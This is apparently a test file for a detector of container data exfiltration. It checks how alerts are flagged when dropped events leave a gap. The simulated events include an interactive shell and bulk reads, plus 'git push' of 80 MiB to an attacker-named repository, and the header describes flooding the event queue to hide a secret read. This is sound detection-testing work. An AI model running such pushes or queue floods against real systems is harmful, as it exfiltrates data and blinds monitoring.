/**
 * `degraded` says the alert's counts may be lower bounds: events were lost on the node within the reads the
 * rules looked at, [push − windowMs, push + pushSettleMs]. A loss that took every read before the push (a
 * flood of the attacker's own events filling the queue while the secret is read) leaves no read to start
 * `window.start` from, and must mark the alert all the same.
 */
import { describe, expect, it } from 'vitest';
import { brief, MiB, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;

function pushAfterLoss(readsSeenAfterGap: boolean) {
  const s = new Scenario();
  const c = s.container({ pod: 'api' });
  const app = s.init(c, '/app/server', '--listen :8080');
  const bash = s.exec(c, '/bin/bash', '-i', { parent: app });
  // The token and 80 MiB are read while the queue is full: those events are dropped, the gap is marked.
  const lostFrom = s.now;
  s.wait(20_000).gap({ fromMs: lostFrom, dropped: 250_000 });
  s.wait(5 * 60_000);
  if (readsSeenAfterGap) s.read(bash, '/app/README.md', 2048);
  s.wait(1_000);
  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: bash });
  s.connect(git, GITHUB_IP, 443).send(git, GITHUB_IP, 443, 80 * MiB);
  return run(s.events).alerts;
}

describe('a loss inside the window marks the alert degraded, whatever reads were seen', () => {
  it('every read before the push lost in a gap 5 minutes earlier: degraded', () => {
    const alerts = pushAfterLoss(false);
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-push-without-reads', severity: 'medium', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.degraded).toBe(true);
    expect(alerts[0]!.response.some((r) => r.includes('lower bounds'))).toBe(true);
  });

  it('only reads after the gap seen (window.start after it): degraded', () => {
    const alerts = pushAfterLoss(true);
    expect(alerts.map((a) => a.degraded)).toEqual([true]);
  });
});

describe('a loss before the container was first seen', () => {
  it('does not mark the alert of a container that appeared after it (its window.start after the loss)', () => {
    const s = new Scenario();
    const other = s.container({ pod: 'other' });
    s.read(s.init(other), '/srv/x', 10);
    const lostFrom = s.now;
    s.wait(20_000).gap({ fromMs: lostFrom, dropped: 250_000 });
    s.wait(5 * 60_000);
    const c = s.container({ pod: 'job' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB, 10);
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/acme/app.git', { parent: sh });
    s.connect(git, GITHUB_IP, 443).send(git, GITHUB_IP, 443, 4096);
    expect(run(s.events).alerts.map((a) => [a.rule, a.degraded])).toEqual([['bulk-read-then-push', false]]);
  });
});

describe('a loss stamped far in the future', () => {
  it('marks the pushes of its time, not every push on the node until year 2999', () => {
    const s = new Scenario();
    const c = s.container({ pod: 'api' });
    const app = s.init(c, '/app/server', '--listen :8080');
    s.read(app, '/app/config.yaml', 100);
    // Events dropped from a full queue, one of them stamped 2999: the marker spans its drops' times.
    s.wait(1_000).gap({ fromMs: s.now, dropped: 10, at: Date.parse('2999-12-31T23:59:59Z') });
    // An hour later, long past the loss, a push of the node's own time.
    s.wait(3_600_000);
    const bash = s.exec(c, '/bin/bash', '-i', { parent: app });
    s.readMany(bash, '/srv/export', 80, MiB, 10);
    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: bash });
    const alerts = run(s.events).alerts;
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.degraded).toBe(false);
  });
});
